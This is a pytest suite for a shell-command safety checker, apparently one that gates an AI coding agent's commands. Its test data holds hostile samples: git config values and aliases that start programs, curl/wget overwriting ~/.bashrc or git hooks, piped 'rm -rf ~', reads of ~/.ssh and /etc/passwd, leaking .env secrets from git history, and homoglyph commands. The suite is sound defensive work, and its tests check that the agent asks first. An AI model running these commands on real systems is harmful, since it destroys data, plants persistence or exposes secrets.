"""Attacks that worked in real use, each with its neighbours, judged without a sandbox."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import msgspec
import pytest

from buddy.safety.git_programs import starts_program
from buddy.safety.git_repository import find_git_folders, is_git_folder, repository_around
from buddy.safety.policy.decide import ASK, judge
from buddy.safety.policy.facts import Facts
from buddy.safety.policy.rules import RuleSet
from buddy.safety.policy.try_command import judge_command
from buddy.safety.shell.context import CommandPlace
from buddy.safety.shell.result import READ_ONLY_ENVIRONMENT
from tests.support.shell_project import ShellProject, shell_project


@pytest.fixture
def project(tmp_path: Path) -> ShellProject:
    made = shell_project(tmp_path)
    made.git("init", "-q", "-b", "main", ".")
    return made


def _levels(project: ShellProject, *commands: str) -> set[str]:
    return {project.analyse(command).level for command in commands}


@pytest.mark.parametrize(
    "command",
    [
        "cat f | while read -r n; do [ -e $n ]; done",
        "printf '%s\\n' 'f -a -v x[$(id)]' | while read -r n; do [ -e $n ]; done",
        "cat f | while read -r n; do [ -f $n ] && echo yes; done",
        "git log --format=%s | while read -r s; do [ $s = x ]; done",
        "cat f | while read -r n; do test $n; done",
        "cat f | while read -r n; do printf -- $n; done",
        'cat f | while read -r n; do printf "$n"; done',
        "cat f | while read -r n; do printf '%s' $n; done",
        'cat f | while read -r n; do printf "x$n" a; done',
        "cat f | while read -r n; do [ x$n ]; done",
        "cat f | while read -r n; do [ -z $n ]; done",
        'cat f | while read -r n; do [ "$n" = x -o "$n" = y ]; done',
        "cat f | while read -r n; do wc -l $n; done",
        "[ -d $OLDPWD ]",
        "[ $LANG = x ]",
        "[ -n $CI ]",
        "printf $TERM",
        'printf "$TERM"',
        "exit $LANG",
        "true $n",
        "[ $EDITOR ]",
    ],
)
def test_RU_C1_an_unquoted_unknown_variable_asks(project: ShellProject, command: str) -> None:
    assert project.analyse(command).level == "ask"


def test_RU_C1_quoted_words_in_short_tests_stay_wide_and_numbers_known(project: ShellProject) -> None:
    assert project.analyse('cat f | while read -r n; do [ -e "$n" ]; done').level == "wide"
    assert project.analyse("ls | while read -r n; do printf '%s\\n' \"$n\"; done").level == "wide"
    assert project.analyse('echo "$LANG"').level == "wide"
    assert project.analyse('ls; echo "exit: $?"').level == "core"
    assert project.analyse("echo $((1 + 2)) $HOME").level == "core"


@pytest.mark.parametrize(
    "command",
    [
        "cd l/../../.. && cat home/.[s]sh/*",
        "cd l/../../../../../.. && head -1 etc/passwd; pwd",
        "cd l/.. && ls",
        "cd l/../ && git status",
        "cd src/../l/.. && ls",
        "cd ./l/.. && ls",
        "cd -- l/.. && ls",
        "cd l/../src && ls",
        "cd -P l/.. && ls",
        "cd -L l && ls",
        "cd .. && ls",
        "(cd l && (cd .. && ls))",
        "cd l/../1 && ls",
        "cd 'l/..' && ls",
        "cd $PWD/l/.. && ls",
    ],
)
def test_RU_C2_cd_behind_a_link_asks(project: ShellProject, command: str) -> None:
    (project.root / "1/2/3/4/5/6/7/8").mkdir(parents=True)
    (project.root / "l").symlink_to("1/2/3/4/5/6/7/8")
    assert project.analyse(command).level == "ask"


def test_RU_C2_a_plain_folder_is_followed(project: ShellProject) -> None:
    assert _levels(project, "cd src && ls", "cd ./src && ls", "cd src/sub && cat deep.py") == {"core"}
    assert project.analyse("cd src/sub/.. && ls").level == "wide"


def test_RU_H1_an_empty_git_folder_hides_no_repository(project: ShellProject) -> None:
    project.git("config", "filter.x.clean", "touch OWNED; cat")
    for empty in ("sub", "two"):
        (project.root / empty / ".git").mkdir(parents=True)
    (project.root / "two/.git/HEAD").write_text("nonsense\n")
    (project.root / "two/.git/objects").mkdir()

    for command in ("git -C sub status", "cd sub && git diff", "cd two && git diff", "git -C two log"):
        assert "filter.x.clean" in project.reason(command), command
    assert repository_around(str(project.root / "sub")) == (str(project.root), str(project.root / ".git"))
    assert [top for top, _ in find_git_folders(str(project.root / "two"))] == [
        str(project.root / "two"),
        str(project.root),
    ]


def test_RU_H1_git_agrees_about_what_a_repository_is(project: ShellProject) -> None:
    heads = ["ref: refs/heads/main\n", "ref:  refs/heads/x\n", "0" * 40 + "\n", "junk\n", "", "ref: x\n"]
    for number, head in enumerate(heads):
        folder = project.root / f"r{number}" / ".git"
        for part in ("objects", "refs"):
            (folder / part).mkdir(parents=True)
        (folder / "HEAD").write_text(head)
        (folder / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
        real = subprocess.run(
            ["git", "rev-parse", "--absolute-git-dir"],
            cwd=folder.parent,
            capture_output=True,
            text=True,
            check=True,
            env={"PATH": os.environ["PATH"], "HOME": str(project.home)},
        ).stdout.strip()
        folders = [git_dir for _, git_dir in find_git_folders(str(folder.parent))]
        assert real in folders, head
        assert not is_git_folder(str(folder)) or real == str(folder), head


def test_RU_H1_a_git_file_and_a_worktree_are_found(project: ShellProject) -> None:
    project.git("add", "a")
    project.git("commit", "-qm", "x")
    project.git("worktree", "add", "-q", "tree")
    project.git("config", "diff.external", "touch OWNED")
    assert "diff.external" in project.reason("git -C tree diff")


@pytest.mark.parametrize(
    "command",
    [
        "find libs -maxdepth 1 -type d -exec git -C {} status --short \\;",
        "find libs -maxdepth 1 -type d -print0 | xargs -0 -I{} git -C {} status",
        "find libs -maxdepth 1 -type d | xargs -I{} git -C {} diff",
        "find libs -exec git -C {} log \\;",
        "find libs -type f -exec git diff -- {} +",
        "for d in libs/*; do git -C $OLDPWD log; done",
        'ls libs | while read -r d; do git -C "$d" status; done',
        'ls libs | while read -r d; do cd "$d"; done',
    ],
)
def test_RU_H2_no_folder_name_makes_an_unknown_name_known(project: ShellProject, command: str) -> None:
    (project.root / "…").mkdir()
    (project.root / "libs/sub").mkdir(parents=True)
    assert project.analyse(command).level == "ask"


def test_RU_H3_merge_drivers_and_merging_again_ask(project: ShellProject) -> None:
    for way in ("remerge", "r", "on-parent", "REMERGE"):
        assert project.analyse(f"git show --diff-merges={way} HEAD").level == "ask"
    assert _levels(project, "git show --remerge-diff", "git log --diff-merges remerge") == {"ask"}
    assert project.analyse("git show --diff-merges=first-parent HEAD").level == "core"
    project.git("config", "merge.ev.driver", "touch OWNED; exit 0")
    assert "merge.ev.driver" in project.reason("git log -p -2")


def test_RU_H3_log_diff_merges_of_the_configuration_is_seen(project: ShellProject) -> None:
    project.git("config", "log.diffMerges", "remerge")
    assert "log.diffmerges" in project.reason("git log -m -p -2")


@pytest.mark.parametrize(
    "command",
    [
        "env -i git log -p",
        "env -u GIT_NO_LAZY_FETCH git show HEAD",
        "env -u GIT_CONFIG_COUNT git diff",
        "env - git log",
        "env --ignore-environment git log",
        "env --unset=GIT_CONFIG_COUNT git log",
        "env -C src git log",
        "env -S 'git log'",
        "env -i sh -c 'git log'",
        "env GIT_CONFIG_COUNT=0 git log",
        "GIT_CONFIG_COUNT=0 git log",
        "GIT_OPTIONAL_LOCKS=1 git status",
        "GIT_NO_LAZY_FETCH=0 git log",
        "GIT_TERMINAL_PROMPT=1 git log",
        "env GIT_DIR=sub git log",
        "unset GIT_CONFIG_COUNT; git log",
        "timeout 5 env -i git log",
        "exec env -i git log",
        "command env -i git diff",
        "for git_config_count in 0; do env -i git log; done",
    ],
)
def test_RU_H4_the_hardening_of_git_stays(project: ShellProject, command: str) -> None:
    assert project.analyse(command).level == "ask"


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("extensions.partialClone", "origin"),
        ("remote.origin.promisor", "true"),
        ("credential.helper", "!touch OWNED"),
        ("credential.https://example.com.helper", "!touch OWNED"),
    ],
)
def test_RU_H4_partial_clones_and_credential_helpers_ask(project: ShellProject, key: str, value: str) -> None:
    project.git("config", key, value)
    assert key.rpartition(".")[2].lower() in project.reason("git show HEAD")


EXECUTES = """
core.fsmonitor core.hooksPath core.sshCommand core.gitProxy core.editor core.pager core.askPass
core.alternateRefsCommand core.worktree filter.x.clean filter.x.smudge filter.x.process diff.external
diff.x.command diff.x.textconv merge.x.driver credential.helper credential.http://x.helper
extensions.partialClone remote.o.promisor remote.o.uploadpack remote.o.receivepack remote.o.vcs
gpg.program gpg.ssh.program gpg.ssh.defaultKeyCommand sequence.editor pager.log alias.x include.path
includeIf.gitdir:/.path url.x.insteadOf url.x.pushInsteadOf submodule.x.update trailer.x.command
trailer.x.cmd interactive.diffFilter log.diffMerges log.showSignature uploadpack.packObjectsHook
protocol.allow protocol.ext.allow ssh.variant web.browser browser.x.cmd man.x.cmd difftool.x.cmd
mergetool.x.cmd guitool.x.cmd sendemail.smtpServer sendemail.x.sendmailCmd tar.x.command imap.tunnel
instaweb.httpd init.templateDir lfs.customtransfer.x.path gc.recentObjectsHook hook.x.command
"""


@pytest.mark.parametrize("key", EXECUTES.split())
def test_RU_H4_the_one_table_knows_every_setting_that_starts_programs(key: str) -> None:
    assert starts_program(key, None)
    assert starts_program(key.upper() if key.count(".") == 1 else key, None)


def test_RU_H4_ordinary_settings_start_nothing() -> None:
    for key, value in (
        ("user.name", "x"),
        ("core.bare", "false"),
        ("branch.main.remote", "origin"),
        ("remote.origin.url", "https://example.com/x"),
        ("remote.origin.fetch", "+refs/heads/*:refs/remotes/origin/*"),
        ("submodule.x.update", "rebase"),
        ("alias.st", "status"),
        ("core.fsmonitor", "true"),
        ("log.diffMerges", "separate"),
    ):
        assert not starts_program(key, value), key


def _with_path(project: ShellProject, folder: Path) -> CommandPlace:
    return CommandPlace(project.boundary, f"{folder}:/usr/bin:/bin")


def _program(path: Path, text: str = "\x7fELF") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)


def test_RU_H5_rustup_proxies_obey_the_repository(project: ShellProject) -> None:
    binaries = project.home / ".cargo/bin"
    _program(binaries / "rustup")
    for name in ("cargo", "rustc"):
        os.link(binaries / "rustup", binaries / name)
    place = _with_path(project, binaries)
    for name in ("rustup", "cargo", "rustc"):
        assert project.analyser.analyse(f"{name} --version", place).level != "core" or name == "rustup"
    (project.root / "rust-toolchain.toml").write_text('[toolchain]\npath = "/proc/self/cwd/evil"\n')
    for command in ("rustup --version", "cargo --version", "rustc -V", "rustup --help", "rustc -vV"):
        assert project.analyser.analyse(command, place).level == "ask", command


def test_ATTACK10_npx_makes_the_folders_that_an_npmrc_names(project: ShellProject) -> None:
    assert project.analyse("npx --version").level == "core"
    (project.root / ".npmrc").write_text("cache=/home/me/.ssh/authorized_keys\n")
    for command in ("npx --version", "npx -v", "npm --version", "npm ls", "cd src && npx --version"):
        assert project.analyse(command).level == "ask", command


SHIMS = {
    "asdf": '#!/usr/bin/env bash\n# asdf-plugin: nodejs 20\nexec /home/u/.asdf/bin/asdf exec "node" "$@"\n',
    "pyenv": '#!/usr/bin/env bash\nexec "/home/u/.pyenv/libexec/pyenv" exec "$program" "$@"\n',
    "pkgx": "#!/usr/bin/env -S pkgx -q! node\n",
    "unknown": "#!\n",
}


@pytest.mark.parametrize("text", SHIMS.values(), ids=SHIMS)
@pytest.mark.parametrize("command", ["{} --version", "{} . f.json", "cat f | {} ."])
def test_RU_H6_a_shim_asks_while_a_file_names_a_version(
    project: ShellProject, text: str, command: str
) -> None:
    _program(project.home / "bin/jq", text)
    place = _with_path(project, project.home / "bin")
    assert project.analyser.analyse(command.format("jq"), place).level != "core"
    (project.root / ".tool-versions").write_text("nodejs path:/proc/self/cwd/evil\n")
    assert project.analyser.analyse(command.format("jq"), place).level == "ask"


def test_RU_H6_links_to_managers_their_folders_and_their_interpreters_are_shims(
    project: ShellProject,
) -> None:
    _program(project.home / "bin/mise")
    (project.home / "bin/rg").symlink_to("mise")
    _program(project.home / ".local/share/mise/shims/fd")
    _program(project.home / "bin/node", SHIMS["asdf"])
    _program(project.home / "bin/npm", "#!/usr/bin/env node\n")
    (project.root / "mise.toml").write_text("")
    for command, folder in (
        ("rg x", "bin"),
        ("fd x", ".local/share/mise/shims"),
        ("npm --version", "bin"),
        ("npm ls", "bin"),
    ):
        assert project.analyser.analyse(command, _with_path(project, project.home / folder)).level == "ask", (
            command
        )
    assert project.analyser.analyse("wc -l f", _with_path(project, project.home / "bin")).level == "core"


def test_RU_H6_dotnet_and_go_ask_while_a_file_names_a_tool_chain(project: ShellProject) -> None:
    assert _levels(project, "dotnet --version", "go version", "go env GOPATH") == {"core"}
    (project.root / "global.json").write_text("{}")
    (project.root / "go.mod").write_text("toolchain go1.99")
    commands = (
        "dotnet --info",
        "dotnet --version",
        "dotnet --list-sdks",
        "go version",
        "go env",
        "go env GOPATH",
    )
    assert _levels(project, *commands) == {"ask"}


@pytest.mark.parametrize(
    "command",
    [
        "git ls-files | xargs -n1 wc -l",
        "git ls-files | xargs wc -l",
        "git ls-files -z | xargs -0 wc -l",
        "git ls-files | xargs du",
        "git ls-files | xargs -I{} wc -l {}",
        "rg -l x | xargs wc -l",
        "rg --files | xargs grep x",
        "fd . | xargs md5sum",
        "git grep -l x | xargs head",
        "git ls-files '*' | xargs cat",
        "git diff --name-only | xargs stat",
        "wc -l *",
        "grep x *",
        "cat -- *",
    ],
)
def test_RU_H7_a_name_that_is_an_option_asks(project: ShellProject, command: str) -> None:
    odd = project.root / "--files0-from=" / "x"
    odd.parent.mkdir()
    odd.write_text("x")
    project.git("add", "-A")
    assert project.analyse(command).level == "ask"


def test_RU_H7_a_folder_in_front_makes_names_harmless(project: ShellProject) -> None:
    (project.root / "-x").write_text("")
    project.git("add", "-A")
    for command in (
        "git ls-files src | xargs wc -l",
        "find . -name '*.py' | xargs wc -l",
        "rg -l x src | xargs wc",
    ):
        assert project.analyse(command).level == "wide", command
    assert project.analyse("wc -l ./*").level == "core"


def test_RU_H8_nothing_runs_unasked_in_a_folder_outside(project: ShellProject) -> None:
    (project.root / ".ssh").mkdir()
    for folder in (project.root.parent / "other", project.home, Path("/proc/self"), project.root / ".ssh"):
        place = CommandPlace(msgspec.structs.replace(project.boundary, cwd=str(folder)))
        for command in (
            "ls",
            "rg -a x",
            "git log -p",
            "find .",
            "du -a",
            "pwd",
            "for f in a; do cat $f; done",
        ):
            assert project.analyser.analyse(command, place).level == "ask", (folder, command)


def _run(project: ShellProject, command: str) -> str:
    return subprocess.run(
        ["bash", "-c", command],
        cwd=project.root,
        capture_output=True,
        text=True,
        check=False,
        env={"PATH": "/usr/bin:/bin", "HOME": str(project.home), **READ_ONLY_ENVIRONMENT},
    ).stdout


@pytest.mark.parametrize(
    "command",
    [
        "git log -p",
        "git show HEAD",
        "git show HEAD~1",
        "git diff HEAD~2",
        "git diff",
        "git diff HEAD -- .env",
        "git log -p --all -- .env",
        "git log -1 -p --word-diff",
        "git log --cc -p",
        "git stash show -p",
        "git diff-tree -p HEAD",
        "git diff --no-index b .env",
        "git show --text HEAD",
        "git show -a HEAD~1",
        "git diff --binary HEAD~2",
        "git log -p --text",
        "git cat-file -p $(git rev-parse HEAD~1:.env)",
        "git show HEAD~1:.env",
        "git cat-file -p HEAD~1:.env",
        "git show :.env",
        "git blame .env",
        "git grep TOKEN -- .env",
        "git log -L1,2:.env",
        "git cat-file blob HEAD~1:.env",
        "git whatchanged -p",
    ],
)
def test_RU_M5_git_shows_no_secret_file_unasked(project: ShellProject, command: str) -> None:
    project.git("add", "-A")
    project.git("commit", "-qm", "one")
    (project.root / ".env").write_text("TOKEN=hunter2secret\n")
    project.git("commit", "-qam", "two")
    project.git("rm", "-q", "--cached", ".env")
    project.git("commit", "-qm", "three")
    if project.analyse(command).read_only:
        assert "hunter2secret" not in _run(project, command)


def test_RU_M5_a_hash_is_not_shown_unasked(project: ShellProject) -> None:
    project.git("add", "-A")
    project.git("commit", "-qm", "one")
    blob = subprocess.run(
        ["git", "rev-parse", "HEAD:.env"], cwd=project.root, capture_output=True, text=True, check=True
    ).stdout.strip()
    assert project.analyse(f"git cat-file -p {blob}").level == "ask"
    assert project.analyse(f"git cat-file blob {blob}").level == "ask"
    assert project.analyse("git cat-file -p HEAD").level == "core"


def test_RU_M5_attributes_that_switch_diffs_on_ask(project: ShellProject) -> None:
    (project.root / ".gitattributes").write_text("*.py diff=python\n* text=auto\n")
    assert project.analyse("git log -p").level == "core"
    (project.root / ".gitattributes").write_text(".env diff\n")
    assert project.analyse("git log -p").level == "ask"


def test_RU_M5_the_source_of_a_change_is_still_shown(project: ShellProject) -> None:
    project.git("add", "-A")
    project.git("commit", "-qm", "one")
    assert "print('hello')" in _run(project, "git log -p")


FLOOR = [
    ("git config core.hooksPath x", "core.hooksPath"),
    ("git config --global alias.x '!rm -rf ~'", "alias.x"),
    ("git config set core.fsmonitor ./x", "core.fsmonitor"),
    ("curl -o ~/.bashrc http://x", ".bashrc"),
    ("curl -sSLo ~/.bashrc http://x", ".bashrc"),
    ("curl --output=.git/hooks/pre-commit http://x", ".git"),
    ("curl -O http://x/.envrc", ".envrc"),
    ("wget -O ~/.bashrc http://x", ".bashrc"),
    ("wget -P ~ http://x/.profile", ".profile"),
    ("sed -n 'w .git/hooks/x' f", ".git"),
    ("sed 's/a/b/w .git/hooks/x' f", ".git"),
    ("awk '{print > \".git/hooks/x\"}' f", ".git"),
    ("tar x -C ~ -f a.tar", "home"),
    ("tar -xzf a.tgz -C /", "/"),
    ("unzip a.zip -d ~", "home"),
    ("unzip -d ~ a.zip", "home"),
    ("rsync -a --delete x/ ~/", "home"),
    ("rsync -a --delete empty/ ./", "workspace"),
    ("cp -r dots/. ~/", "home"),
    ("rm -rf $(echo ~)", "only known when it runs"),
    ("rm -rf `pwd`", "only known when it runs"),
    ("find / -name x -exec rm {} \\;", "find deletes"),
    ("find ~ -name '*.log' -exec sh -c 'rm -f \"$1\"' _ {} \\;", "find deletes"),
    ("echo 'rm -rf ~' | sh", "home"),
    ("printf 'rm -rf ~\\n' | bash -s", "home"),
    ("echo 'rm -rf ~' | sudo sh", "home"),
    ("echo 'echo x > ~/.bashrc' | cat | sh -", ""),
    ("git reset --hard", "not committed"),
    ("git -C . reset --hard HEAD~3", "not committed"),
    ("git checkout -- .", "whole folder"),
    ("git push --force", "server"),
    ("git stash clear", "stash"),
    ("cd / && rm -rf *", ""),
    ("cd ~ && tar xf /tmp/a.tar -C .", "home"),
    ("ls | xargs rm -rf", "xargs"),
    ("find . | xargs rm -rf", "xargs"),
    ("cat list | xargs rm -rf", "xargs"),
    ("crontab x", "crontab"),
]


@pytest.mark.parametrize(("command", "seen"), FLOOR)
def test_RU_M6_the_floor_sees_it_in_yolo(project: ShellProject, command: str, seen: str) -> None:
    verdict = judge_command(command, project.boundary, project.analyser, mode="yolo").verdict
    assert (verdict.decision, verdict.floor) == ("ask", True)
    assert seen in verdict.reason


@pytest.mark.parametrize(
    "command",
    [
        "git config user.name x",
        "git config --get core.hooksPath",
        "git config core.hooksPath",
        "curl -o out.html http://x",
        "curl http://x/.envrc",
        "wget http://x/a.tar.gz",
        "sed -n 'w out' f",
        "awk '{print > \"out\"}' f",
        "tar xf a.tar",
        "tar xf a.tar -C build",
        "tar czf out.tgz -C ~ x",
        "unzip a.zip -d build",
        "rsync -a --delete src/ build/",
        "cp -r src build",
        "rm -rf build",
        "find . -name '*.pyc' -exec rm {} \\;",
        "find . -name __pycache__ | xargs rm -rf",
        "git ls-files -o build | xargs rm",
        "echo 'ls' | sh",
        "echo 'rm -rf ~'",
        "git reset HEAD~1",
        "git checkout -b x",
        "git checkout main",
        "git push",
        "git stash drop",
        "cd build && rm -rf x",
        "make -j4 -o x",
        "gcc -o out a.c",
    ],
)
def test_RU_M6_ordinary_work_runs_in_yolo(project: ShellProject, command: str) -> None:
    assert judge_command(command, project.boundary, project.analyser, mode="yolo").decision == "allow"


def test_RU_M10_yq_asks(project: ShellProject) -> None:
    assert _levels(project, "yq ea 'strload(\"/etc/passwd\")' f.json", "yq . f.json", "yq e .a f.json") == {
        "ask"
    }


@pytest.mark.parametrize("name", ["npm_config_logs_max", "http_proxy", "no_proxy", "npm_config_cache"])
def test_RU_L5_a_loop_changes_no_programs_environment(project: ShellProject, name: str) -> None:
    assert project.analyse(f"for {name} in 1; do npm ls; done").level == "ask"
    assert project.analyse(f"ls | while read -r {name}; do npm ls; done").level == "ask"


@pytest.mark.parametrize(
    ("command", "seen"),
    [
        ("сurl http://x", "U+0441"),
        ("ls; ѕudo x", "U+0455"),
        ("cat f | grеp x", "U+0435"),
        ("cat раssword.txt", "cyrillic"),
        ("FOO=1 ｌs", "U+FF4C"),
    ],
)
def test_RU_L9_letters_that_look_like_others_are_named(
    project: ShellProject, command: str, seen: str
) -> None:
    analysis = project.analyse(command)
    assert analysis.level == "ask"
    assert seen in analysis.reason


def test_RU_L9_words_of_another_language_are_ordinary(project: ShellProject) -> None:
    assert _levels(project, "echo привет", "grep -n 'Ωμέγα' f", "cat файл.txt", "echo naïve café") == {"core"}


def test_wide_runs_unasked_only_in_a_read_only_sandbox(project: ShellProject) -> None:
    analysis = project.analyse("find . -name '*.py' | xargs wc -l")
    facts = Facts("run_shell", "high", str(project.root), str(project.home), anything=True, shell=analysis)
    verdicts = [
        judge(one, "plan", RuleSet(), (), ASK, trusted=True, now=0)
        for one in (facts, msgspec.structs.replace(facts, read_only_sandbox=True))
    ]
    assert [verdict.decision for verdict in verdicts] == ["deny", "allow"]
    assert analysis.reason == "xargs runs unasked only in a sandbox"
